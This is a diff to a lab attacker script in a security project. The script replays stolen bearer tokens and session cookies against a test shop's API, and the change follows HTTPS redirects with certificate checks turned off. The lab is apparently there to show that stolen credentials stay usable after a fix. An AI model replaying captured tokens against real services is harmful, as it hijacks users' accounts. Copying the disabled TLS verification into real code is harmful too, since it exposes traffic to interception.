@@ -6,11 +6,14 @@ victim's network namespace, as an attacker on the same LAN would: inside the lab
     attacker.py ALERTS.jsonl SHOP_IP HOST     (until killed)
 
 Each replay prints one line: `replay <kind> <user> -> HTTP <status>: <first bytes of the answer>`.
+When plain HTTP only redirects to HTTPS (lab/run.sh --fixed), the attacker follows: a token stolen
+before the fix is still good over HTTPS until it expires (`-> HTTP 301 -> https: HTTP 200: ...`).
 The user name came off the wire and the answer from whoever answered: both reach the terminal through
 `shown`, the rule of plainsight's one sanitiser (`output::term::clean`), which tests/lab.rs checks it
 against character by character.
 """
 import json
+import ssl
 import sys
 import time
 import urllib.error
@@ -44,15 +47,31 @@ def shown(s, limit):
     return "".join(out)
 
 
-def replay(path, headers):
-    req = urllib.request.Request("http://%s%s" % (shop, path), headers=dict(headers, Host=host))
+class NoRedirect(urllib.request.HTTPRedirectHandler):
+    def redirect_request(self, req, fp, code, msg, headers, newurl):
+        return None
+
+
+TLS = ssl.create_default_context()
+TLS.check_hostname = False
+TLS.verify_mode = ssl.CERT_NONE  # the lab's certificate is self-signed
+opener = urllib.request.build_opener(NoRedirect, urllib.request.HTTPSHandler(context=TLS))
+
+
+def replay(path, headers, scheme="http"):
+    """(status, first bytes, the status of a redirect to HTTPS followed or None)."""
+    req = urllib.request.Request("%s://%s%s" % (scheme, shop, path), headers=dict(headers, Host=host))
     try:
-        with urllib.request.urlopen(req, timeout=3) as r:
-            return r.status, r.read(60)
+        with opener.open(req, timeout=3) as r:
+            return r.status, r.read(60), None
     except urllib.error.HTTPError as e:
-        return e.code, e.read(60)
+        location = e.headers.get("Location") or ""
+        if scheme == "http" and e.code in (301, 302, 307, 308) and location.startswith("https://"):
+            status, body, _ = replay(path, headers, "https")
+            return status, body, e.code
+        return e.code, e.read(60), None
     except OSError as e:
-        return 0, str(e).encode()
+        return 0, str(e).encode(), None
 
 
 def handle(a):
@@ -64,13 +83,14 @@ def handle(a):
         return
     done.add(a.get("fingerprint"))
     if kind in TOKENS:
-        status, body = replay("/api/orders", {"Authorization": "Bearer " + secret})
+        status, body, moved = replay("/api/orders", {"Authorization": "Bearer " + secret})
     else:
         name = (a.get("location") or "cookie session").split(" ", 1)[-1]
-        status, body = replay("/api/profile", {"Cookie": "%s=%s" % (name, secret)})
+        status, body, moved = replay("/api/profile", {"Cookie": "%s=%s" % (name, secret)})
     who = a.get("user") or "-"
     text = body.decode("utf-8", "replace").replace("\n", " ")
-    print("replay %s %s -> HTTP %d: %s" % (kind, shown(who, 64), status, shown(text, 60)), flush=True)
+    via = "HTTP %d -> https: " % moved if moved else ""
+    print("replay %s %s -> %sHTTP %d: %s" % (kind, shown(who, 64), via, status, shown(text, 60)), flush=True)
 
 
 def main():
